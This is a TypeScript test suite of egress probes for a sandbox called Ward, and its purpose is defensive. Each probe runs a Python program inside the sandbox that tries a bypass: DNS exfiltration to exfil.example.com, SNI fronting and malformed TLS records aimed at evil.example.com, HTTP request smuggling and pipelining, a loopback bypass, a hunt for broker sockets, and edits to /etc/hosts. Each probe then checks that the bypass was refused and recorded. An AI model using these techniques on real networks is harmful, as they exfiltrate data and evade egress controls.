/**
 * Network, with egress on: each probe adds a network.allow overlay, so the
 * broker and the relay are in the path, and then tries the ways around them.
 * The allowed destination is a host-side server that counts connections and
 * bytes, allowed as `localhost:PORT` (the broker refuses to connect a name
 * that resolves to loopback, so only the sandbox side is exercised) or, where
 * the upstream must be reached, through `network.allow_local`.
 * A probe holds only if the sandbox was refused *and* the broker recorded
 * the refusal (run.net): a denial nobody can show did not happen.
 */
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { existsSync } from 'node:fs';
import { createServer as createTcpServer, type AddressInfo, type Server as TcpServer } from 'node:net';
import os from 'node:os';
import { broken, E, expectErrno, held, hostAddresses, kv, noResult, py, serverPort, startHostServer, st, type HostServer } from '../lib.js';
import type { Probe, ProbeContext, ProbeRun, Verdict } from '../types.js';
import { isWithin } from '../../policy/expand.js';
import { realOr } from '../../paths.js';

const group = 'network' as const;
/** What every probe here shares: the egress promise, refused by the broker unless it says otherwise. */
const egressProbe = { group, promise: 'egress', mechanism: 'egress-broker', expect: 'refused' } as const;

const setup = async (ctx: ProbeContext) => {
  ctx.state.server = await startHostServer({ port: 0, host: '127.0.0.1' }, 'keep-open');
};
const teardown = (ctx: ProbeContext) => st<HostServer>(ctx, 'server').close();
const overlay = (ctx: ProbeContext) => ({ network: { allow: [`allowed.ward-probe.invalid:${serverPort(st<HostServer>(ctx, 'server'))}`] } });

/** Python: a DNS query over UDP to the sandbox's resolver; prints `key=rcode` and `key_answers=N`. */
const DNS = `def dns(key, name, qtype):
    q = struct.pack('>HHHHHH', 0x5744, 0x0100, 1, 0, 0, 0)
    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', qtype, 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(5)
    try:
        u.sendto(q, ('127.0.0.1', 53))
        r = u.recv(1500)
        say(key, r[3] & 15)
        say(key + '_answers', struct.unpack('>H', r[6:8])[0])
        return r
    except OSError as e:
        say(key, 'err%d' % (e.errno or 0))
`;

/** The deny records the broker made for this run, as "kind host reason". */
function denials(run: ProbeRun): string[] {
  return run.net.filter((e) => e.verdict === 'deny').map((e) => `${e.kind} ${e.host ?? '?'} ${e.reason ?? '?'}`);
}

function serverSawNothing(ctx: ProbeContext): Verdict | null {
  const s = st<HostServer>(ctx, 'server');
  return s.bytes > 0 ? broken(`the host-side server received ${s.bytes} bytes from the sandbox`) : null;
}

const needsHostAddress = () => (hostAddresses().length > 0 ? null : 'the host has no non-loopback IPv4 address to stand in for the allowed server');

/**
 * An upstream the broker will connect to and inspect the first message for: not loopback (refused
 * for names, uninspected for allow_local), so a server on the host's own address, allowed by that
 * address. No banner: a TLS server waits for the ClientHello (and a client closing with unread
 * data would reset the connection, so the relay would drop the first message before the broker
 * saw it).
 */
const silentUpstreamOnHostAddress: Pick<Probe, 'setup' | 'policy'> = {
  setup: async (ctx) => {
    ctx.state.server = await startHostServer({ port: 0, host: '0.0.0.0' }, 'silent');
    ctx.state.addr = hostAddresses()[0];
  },
  policy: (ctx) => ({ network: { allow: [`${st<string>(ctx, 'addr')}:${serverPort(st<HostServer>(ctx, 'server'))}`] } }),
};

/**
 * A server of the probe's own (HTTP, or raw TCP to read requests as a lenient server does) as the
 * upstream on the host's address, for the same reason as silentUpstreamOnHostAddress: setup calls
 * listenOnHostAddress, which keeps it and what the check reads in ctx.state[key].
 */
async function listenOnHostAddress(ctx: ProbeContext, key: string, server: TcpServer | HttpServer, seen: Record<string, unknown>): Promise<void> {
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '0.0.0.0', () => resolve());
  });
  ctx.state[key] = { server, ...seen };
  ctx.state.addr = hostAddresses()[0];
}

const upstreamPort = (ctx: ProbeContext, key: string) => (st<{ server: TcpServer | HttpServer }>(ctx, key).server.address() as AddressInfo).port;

/** Its teardown, and the policy allowing exactly its address and port. */
const ownUpstreamOnHostAddress = (key: string): Pick<Probe, 'teardown' | 'policy'> => ({
  teardown: (ctx) => new Promise<void>((r) => st<{ server: TcpServer | HttpServer }>(ctx, key).server.close(() => r())),
  policy: (ctx) => ({ network: { allow: [`${st<string>(ctx, 'addr')}:${upstreamPort(ctx, key)}`] } }),
});

/** Python: `port` and `addr` of that upstream. */
const pyUpstream = (ctx: ProbeContext, key: string) => `port = ${upstreamPort(ctx, key)}
addr = '${st<string>(ctx, 'addr')}'`;

/**
 * The fronting probes: the check needs an upstream the broker will connect to, not loopback
 * (refused for names, uninspected for allow_local), so the server listens on the host's own
 * address and the policy allows that address. The raw-connect path is covered by
 * test/sandbox/egress.test.ts.
 */
const frontingProbe = {
  ...egressProbe,
  asi: ['ASI02', 'ASI01'],
  nist: ['SC-7', 'AC-4'],
  teardown,
  requires: needsHostAddress,
  ...silentUpstreamOnHostAddress,
} satisfies Partial<Probe>;

/** Python: `tunnel(timeout)`, a CONNECT through the proxy to that upstream; the socket, and whether the proxy said 200. */
const pyTunnel = (ctx: ProbeContext) => `port = ${serverPort(st<HostServer>(ctx, 'server'))}
addr = '${st<string>(ctx, 'addr')}'
def tunnel(timeout=5):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=timeout)
    s.sendall(('CONNECT %s:%d HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (addr, port, addr, port)).encode())
    head = b''
    while b'\\r\\n\\r\\n' not in head:
        chunk = s.recv(1)
        if not chunk: break
        head += chunk
    return s, head.startswith(b'HTTP/1.1 200')`;

/** Python: reads socket `s` to its end (or a reset) and lists the status codes of the responses in `codes`. */
const PY_PROXY_CODES = `data = b''
while True:
    try:
        c = s.recv(4096)
    except OSError:
        break
    if not c: break
    data += c
codes = [p[:3].decode() for p in data.split(b'HTTP/1.1 ')[1:]]`;

/** Where a run directory with a broker socket could be seen from inside: shared temporary places, granted by the probe's policy. */
const sharedTmpDirs = () => [...new Set([os.tmpdir(), '/tmp', process.env.XDG_RUNTIME_DIR].filter((d): d is string => !!d && existsSync(d)))];

/**
 * Python: every unix socket called egress.sock under the given roots (and $HOME), a few levels
 * deep; to each, a DNS question in the relay's words ("dns", then a framed query). Prints
 * found=N, connected=N, answered=N and answered_at=PATH for the first that answered.
 */
const PY_BROKER_SOCKETS = (roots: string[]) => `import stat
roots = ${JSON.stringify(roots)} + [os.environ.get('HOME', '/')]
found, seen = [], 0
def walk(d, depth):
    global seen
    try:
        entries = list(os.scandir(d))
    except OSError:
        return
    for e in entries:
        seen += 1
        if seen > 50000: return
        try:
            if e.name == 'egress.sock' and stat.S_ISSOCK(e.stat(follow_symlinks=False).st_mode): found.append(e.path)
            elif depth > 0 and e.is_dir(follow_symlinks=False): walk(e.path, depth - 1)
        except OSError:
            pass
for r in roots: walk(r, 5)
found = sorted(set(found))[:20]
q = struct.pack('>HHHHHH', 0x5744, 0x0100, 1, 0, 0, 0) + b'\\x07allowed\\x0bward-probe\\x07invalid\\x00' + struct.pack('>HH', 1, 1)
connected = answered = 0
for p in found:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(5)
        s.connect(p)
        connected += 1
        s.sendall(b'dns\\n' + struct.pack('>H', len(q)) + q)
        s.shutdown(socket.SHUT_WR)
        if len(s.recv(512)) >= 2:
            answered += 1
            if answered == 1: say('answered_at', p)
    except OSError:
        pass
say('found', len(found))
say('connected', connected)
say('answered', answered)`;

export const probes: Probe[] = [
  {
    id: 'net.egress-broker-socket',
    ...egressProbe,
    title: "speak to an egress broker's unix socket directly (this run's or another's), under a grant of the shared temporary directories",
    asi: ['ASI02', 'ASI03'],
    nist: ['SC-7', 'AC-4', 'IA-9'],
    // Ward refuses to run with the audit log inside a grant, so a suite recorded in a log under
    // a temporary directory (e.g. `ward probe --audit-log /tmp/x.jsonl`) cannot run this one,
    // unless the log is in Ward's own directories there, which the mandatory denies hide.
    requires: (ctx) => {
      const log = ctx.auditLog;
      const hidden = log !== null && ctx.wardDirs.some((d) => isWithin(log, realOr(d)) || isWithin(log, d));
      const under = log && !hidden ? sharedTmpDirs().find((d) => isWithin(log, realOr(d))) : undefined;
      return under ? `the suite's audit log ${log} is under ${under}, which this probe grants; run it with the log elsewhere (the default log is)` : null;
    },
    setup,
    teardown,
    policy: (ctx) => ({ ...overlay(ctx), filesystem: { read: sharedTmpDirs() } }),
    // A shared temporary directory too large to search whole for sockets is not granted at all.
    refused: (e) => (/is a place where unix sockets live/.test(e.message) ? held(`Ward refused the grant, so no socket there was reachable: ${e.message}`) : null),
    program: () => py(PY_BROKER_SOCKETS(sharedTmpDirs())),
    check: (run, ctx) => {
      const seen = serverSawNothing(ctx);
      if (seen) return seen;
      const v = kv(run.stdout);
      const found = v.get('found');
      if (found === undefined) return noResult(run, 'the search for broker sockets');
      if (v.get('answered') !== '0') return broken(`the broker at ${v.get('answered_at')} answered the sandbox as if it were the relay (a sandbox that speaks the relay's protocol is let out by that run's policy and can forge its counts)`);
      if (found !== '0') return held(`${found} broker socket(s) visible, ${v.get('connected')} connected to; none answered without the relay's key`);
      return held(`no broker socket visible with ${sharedTmpDirs().join(', ')} granted: run directories are under Ward's state directory, which the mandatory denies hide, every other socket there is masked (and a broker obeys only its relay's key)`);
    },
  },
  {
    id: 'net.egress-dns-exfil',
    ...egressProbe,
    title: 'leak data through DNS: TXT and A queries for names carrying data, to the resolver and straight to public resolvers',
    asi: ['ASI02', 'ASI01'],
    nist: ['SC-7', 'SC-20', 'AC-4'],
    setup,
    teardown,
    policy: overlay,
    program: py(`${DNS}
dns('txt', 'c2VjcmV0LWtleQ.exfil.example.com', 16)
dns('a', 'c2VjcmV0LWtleQ.exfil.example.com', 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b'\\x57\\x44' + b'\\0' * 10, ('8.8.8.8', 53)); say('public', 0)
except OSError as e:
    say('public', e.errno)`),
    check: (run) => {
      const v = kv(run.stdout);
      for (const key of ['txt', 'a']) {
        const rcode = v.get(key);
        if (rcode === undefined) return noResult(run, `the ${key.toUpperCase()} query`);
        if (rcode !== '3' || v.get(`${key}_answers`) !== '0') return broken(`the ${key.toUpperCase()} query was answered (rcode ${rcode}, ${v.get(`${key}_answers`)} answers)`);
      }
      const pub = expectErrno({ keys: ['public'], refused: [E.ENETUNREACH], by: 'the network namespace' })(run);
      if (pub.status !== 'held') return pub;
      const recorded = denials(run).filter((d) => d.startsWith('dns ') && d.includes('exfil.example.com'));
      if (recorded.length < 2) return broken(`NXDOMAIN, but the broker recorded ${recorded.length} of the 2 refused queries`);
      return held(`both queries got NXDOMAIN from Ward's resolver and were recorded; a public resolver is unreachable (ENETUNREACH)`);
    },
  },
  {
    id: 'net.egress-sni-fronting',
    ...frontingProbe,
    title: 'domain fronting: tunnel to an allowed host through the proxy, then send a TLS ClientHello naming another host',
    program: (ctx) =>
      py(`import ssl
${pyTunnel(ctx)}
s, ok = tunnel()
say('tunnel', 0 if ok else errno.EACCES)
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
try:
    ctx.wrap_socket(s, server_hostname='evil.example.com')
    say('fronted', 0)
except ssl.SSLError:
    say('fronted', errno.ECONNRESET)  # its errno field holds an SSL_ERROR_* code: the peer cut the handshake
except OSError as e:
    say('fronted', e.errno or errno.ECONNRESET)
time.sleep(0.5)  # the broker judges the ClientHello as it arrives; let the record land before the run ends`),
    check: (run, ctx) => {
      const seen = serverSawNothing(ctx);
      if (seen) return seen;
      if (kv(run.stdout).get('tunnel') !== '0') return noResult(run, 'a CONNECT tunnel to the allowed address');
      const v = expectErrno({ keys: ['fronted'], refused: [E.ECONNRESET, E.EPIPE, E.ECONNABORTED], by: 'the egress broker' })(run);
      if (v.status !== 'held') return v;
      if (!denials(run).some((d) => d.endsWith('sni-mismatch'))) return broken('the handshake failed, but the broker recorded no sni-mismatch denial');
      return held('the broker cut the tunnel at the ClientHello (SNI evil.example.com is not the host the tunnel was opened to) and recorded it; the server received no byte of it');
    },
  },
  {
    id: 'net.egress-sni-record-tricks',
    ...frontingProbe,
    title: "domain fronting past the SNI check: in a tunnel to an allowed host, a ClientHello for another host behind bytes a lenient TLS server (Go's) skips or accepts: an alert record first, record version 00 00, a ChangeCipherSpec first, an SSLv2-format hello",
    program: (ctx) =>
      py(`import ssl
${pyTunnel(ctx)}
inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
try:
    ssl.create_default_context().wrap_bio(inc, out, server_hostname='evil.example.com').do_handshake()
except ssl.SSLWantReadError:
    pass
hello = out.read()
tricks = [('alert', bytes([21, 3, 1, 0, 2, 1, 100]) + hello), ('v00', hello[:1] + b'\\0\\0' + hello[3:]),
          ('ccs', bytes([20, 3, 3, 0, 1, 1]) + hello), ('sslv2', bytes([0x80, 0x2e, 1, 3, 1, 0, 0x15, 0, 0, 0, 0x10]) + bytes(0x2b))]
for key, data in tricks:
    s, ok = tunnel(3)
    if not ok:
        say(key + '_tunnel', errno.EACCES)
        continue
    s.sendall(data)
    try:
        # The upstream never answers: a tunnel still open after the timeout carried the bytes on.
        say(key, errno.ECONNRESET if s.recv(100) == b'' else 0)
    except socket.timeout:
        say(key, 0)
    except OSError as e:
        say(key, e.errno or errno.ECONNRESET)
    s.close()`),
    check: (run, ctx) => {
      const seen = serverSawNothing(ctx);
      if (seen) return seen;
      const keys = ['alert', 'v00', 'ccs', 'sslv2'];
      const v = kv(run.stdout);
      const noTunnel = keys.find((k) => v.has(`${k}_tunnel`));
      if (noTunnel) return noResult(run, `a CONNECT tunnel to the allowed address (${noTunnel})`);
      const refused = expectErrno({ keys, refused: [E.ECONNRESET, E.EPIPE, E.ECONNABORTED], by: 'the egress broker' })(run);
      if (refused.status !== 'held') return refused;
      const recorded = denials(run).filter((d) => d.endsWith('malformed-tls')).length;
      if (recorded < keys.length) return broken(`each tunnel was cut, but the broker recorded ${recorded} malformed-tls denials for ${keys.length}`);
      return held('the broker cut each tunnel at the bytes before the ClientHello (refused as malformed-tls, recorded); the server received none of them');
    },
  },
  {
    id: 'net.egress-loopback-bypass',
    ...egressProbe,
    title: "reach the allowed server's port on 127.0.0.1 directly, skipping the name the policy allows",
    asi: ['ASI02', 'ASI07'],
    nist: ['SC-7', 'AC-4'],
    setup,
    teardown,
    policy: overlay,
    program: (ctx) =>
      py(`s = socket.create_connection(('127.0.0.1', ${serverPort(st<HostServer>(ctx, 'server'))}), timeout=5)
s.sendall(b'ward-probe\\n')
say('direct', 0 if s.recv(100) else errno.ECONNRESET)`),
    check: (run, ctx) => {
      const seen = serverSawNothing(ctx);
      if (seen) return seen;
      const v = kv(run.stdout).get('direct');
      if (v === '0') return broken('the sandbox read data from the host-side server through 127.0.0.1');
      if (!denials(run).some((d) => d.startsWith('connect '))) return noResult(run, 'a connection the broker refused and recorded');
      return held('the relay carried it to the broker, which refused 127.0.0.1 (not in network.allow_local) and recorded it; the server received no byte');
    },
  },
  {
    id: 'net.egress-proxy-denied',
    ...egressProbe,
    title: 'ask the HTTP proxy for a host the policy does not allow (CONNECT and plain GET)',
    asi: ['ASI02'],
    nist: ['SC-7', 'AC-4'],
    setup,
    teardown,
    policy: overlay,
    program: py(`for key, req in [('connect', b'CONNECT example.com:443 HTTP/1.1\\r\\nHost: example.com:443\\r\\n\\r\\n'), ('get', b'GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n')]:
    s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
    s.sendall(req)
    status = s.recv(4096).split(b'\\r\\n')[0]
    say(key, status.split(b' ')[1].decode() if status else 'closed')`),
    check: (run) => {
      const v = kv(run.stdout);
      for (const key of ['connect', 'get']) {
        const code = v.get(key);
        if (code === undefined) return noResult(run, `the ${key.toUpperCase()} request`);
        if (code !== '403') return broken(`the proxy answered ${code} to ${key.toUpperCase()} example.com`);
      }
      if (denials(run).filter((d) => d.startsWith('proxy example.com')).length < 2) return broken('403, but the broker did not record both refusals');
      return held('403 for both, naming the rule to add; both recorded');
    },
  },
  {
    id: 'net.egress-keepalive-host',
    ...egressProbe,
    title: 'kept-alive plain HTTP: after an allowed request, ask the same connection for another virtual host (pipelined, through the proxy)',
    asi: ['ASI02', 'ASI01'],
    nist: ['SC-7', 'AC-4'],
    // As for fronting: an upstream the broker connects to, on the host's own address, allowed by
    // that address. The raw-connect path is covered by test/sandbox/egress.test.ts.
    requires: needsHostAddress,
    setup: async (ctx) => {
      const hosts: string[] = [];
      const server = createHttpServer((req, res) => {
        hosts.push(req.headers.host ?? '-');
        res.end('ok\n');
      });
      await listenOnHostAddress(ctx, 'http', server, { hosts });
    },
    ...ownUpstreamOnHostAddress('http'),
    program: (ctx) =>
      py(`${pyUpstream(ctx, 'http')}
s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
one = 'GET http://%s:%d/one HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (addr, port, addr, port)
two = 'GET http://%s:%d/two HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n' % (addr, port)
s.sendall((one + two).encode())
${PY_PROXY_CODES}
say('first', codes[0] if codes else 'none')
say('second', codes[1] if len(codes) > 1 else 'none')`),
    check: (run, ctx) => {
      const { hosts } = st<{ hosts: string[] }>(ctx, 'http');
      if (hosts.some((h) => h.startsWith('evil'))) return broken(`the server got a request for ${hosts.find((h) => h.startsWith('evil'))} on the allowed connection`);
      const v = kv(run.stdout);
      if (v.get('first') !== '200') return noResult(run, 'the allowed first request answered');
      if (v.get('second') !== '403') return broken(`the second request (Host: evil.example.com) got ${v.get('second') ?? 'nothing'}, not 403`);
      if (!denials(run).some((d) => d.startsWith('http ') && d.endsWith('host-mismatch'))) return broken('403, but the broker recorded no refusal of the second request');
      return held('the first request was answered; the second, for another Host on the same connection, got a 403 and was recorded; the server never saw it');
    },
  },
  {
    id: 'net.egress-lenient-request-line',
    // Python's http.server (Werkzeug, ...) splits the request line on any whitespace: "GET\t/"
    // is a request to it. The upstream as for fronting; the raw-connect path is covered by
    // test/sandbox/egress.test.ts and test/net/lenient.test.ts.
    ...frontingProbe,
    title: 'tunnel to an allowed host through the proxy, then send a request line a lenient server reads (a tab, leading whitespace) naming another Host',
    program: (ctx) =>
      py(`${pyTunnel(ctx)}
for key, line in [('tab', b'GET\\t/tab HTTP/1.1'), ('lead', b' GET /lead HTTP/1.1')]:
    s, ok = tunnel()
    say(key + '_tunnel', 0 if ok else errno.EACCES)
    s.sendall(line + b'\\r\\nHost: evil.example.com\\r\\n\\r\\n')
    try:
        say(key, 0 if s.recv(100) else errno.ECONNRESET)
    except OSError as e:
        say(key, e.errno or errno.ECONNRESET)
time.sleep(0.5)  # let the records land before the run ends`),
    check: (run, ctx) => {
      const seen = serverSawNothing(ctx);
      if (seen) return broken(`${seen.detail}: a request line the broker took for "not HTTP" was carried uninspected`);
      const v = kv(run.stdout);
      for (const key of ['tab', 'lead']) if (v.get(`${key}_tunnel`) !== '0') return noResult(run, `a CONNECT tunnel to the allowed address (${key})`);
      const refused = denials(run).filter((d) => d.startsWith('proxy ') && d.endsWith('http-in-tunnel'));
      if (refused.length < 2) return broken(`the server saw nothing, but the broker recorded ${refused.length} of the 2 refusals (http-in-tunnel)`);
      return held('both were taken for HTTP (a lenient server would serve them) and refused as plain HTTP inside a tunnel the relay carries; recorded; the server received no byte');
    },
  },
  {
    id: 'net.egress-get-body-smuggle',
    ...egressProbe,
    title: 'put a second request for another Host in the body of a GET (a server that ignores GET bodies reads it as a request), then pipeline one more',
    asi: ['ASI02', 'ASI01'],
    nist: ['SC-7', 'AC-4'],
    // Through the proxy (absolute-form), to the host's own address, as for net.egress-keepalive-host.
    // The server is as lenient as Python's http.server: a body on GET is left unread, so its
    // bytes are the next request it reads, unless the request said Connection: close.
    requires: needsHostAddress,
    setup: async (ctx) => {
      const served: string[] = [];
      let raw = '';
      const server = createTcpServer((sock) => {
        let buf = '';
        let closed = false;
        sock.on('error', () => {});
        sock.on('data', (d: Buffer) => {
          raw += d.toString('latin1');
          if (closed) return;
          buf += d.toString('latin1');
          for (let end = buf.indexOf('\r\n\r\n'); end >= 0 && !closed; end = buf.indexOf('\r\n\r\n')) {
            const lines = buf.slice(0, end).split('\r\n');
            buf = buf.slice(end + 4);
            const words = lines[0]!.split(/\s+/).filter((w) => w !== '');
            const header = (n: string) => lines.slice(1).find((l) => l.toLowerCase().startsWith(`${n}:`))?.slice(n.length + 1).trim();
            served.push(`${header('host') ?? '-'} ${words[1] ?? '-'}`);
            sock.write('HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n');
            if (header('connection')?.toLowerCase() === 'close') {
              closed = true;
              sock.end();
            }
          }
        });
      });
      await listenOnHostAddress(ctx, 'lenient', server, { served, raw: () => raw });
    },
    ...ownUpstreamOnHostAddress('lenient'),
    program: (ctx) =>
      py(`${pyUpstream(ctx, 'lenient')}
inner = b'GET /smuggled HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'
first = ('GET http://%s:%d/first HTTP/1.1\\r\\nHost: %s:%d\\r\\nContent-Length: %d\\r\\n\\r\\n' % (addr, port, addr, port, len(inner))).encode() + inner
third = ('GET http://%s:%d/third HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (addr, port, addr, port)).encode()
s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
s.sendall(first + third)
${PY_PROXY_CODES}
say('first', codes[0] if codes else 'none')
say('third', codes[1] if len(codes) > 1 else 'none')
time.sleep(0.3)`),
    check: (run, ctx) => {
      const { served, raw } = st<{ served: string[]; raw: () => string }>(ctx, 'lenient');
      const evil = served.find((r) => r.startsWith('evil'));
      if (evil) return broken(`the server served a request for ${evil} that the broker forwarded as the body of a GET`);
      if (raw().includes('/third')) return broken('a request after a GET with a body was forwarded: a server that ignores that body (and Connection: close) would read the body as a request first');
      const v = kv(run.stdout);
      if (v.get('first') !== '200') return noResult(run, 'the allowed GET (with a body) answered');
      if (!/\r\nConnection: close\r\n/i.test(raw())) return broken('the GET with a body went upstream without Connection: close');
      if (v.get('third') !== '403') return broken(`the request after the GET with a body got ${v.get('third') ?? 'nothing'}, not 403`);
      if (!denials(run).some((d) => d.startsWith('http ') && d.endsWith('after-ignorable-body'))) return broken('403, but the broker recorded no refusal of the request after the body');
      return held('the GET with a body went with Connection: close and was the last request forwarded: the server never read its body as a request; the next request got a 403 and was recorded');
    },
  },
  {
    id: 'net.egress-etc-hosts',
    ...egressProbe,
    title: 'point an allowed name elsewhere by editing /etc/hosts or /etc/resolv.conf inside the sandbox',
    mechanism: 'mount-namespace',
    asi: ['ASI02'],
    nist: ['SC-7', 'CM-5'],
    setup,
    teardown,
    policy: overlay,
    program: py(`for key, f in [('hosts', '/etc/hosts'), ('resolv', '/etc/resolv.conf')]:
    attempt(key, lambda: open(f, 'a').write('1.2.3.4 localhost\\n'))`),
    check: expectErrno({ keys: ['hosts', 'resolv'], refused: [E.EROFS, E.EACCES, E.EPERM], by: 'read-only mounts and Landlock' }),
  },
];
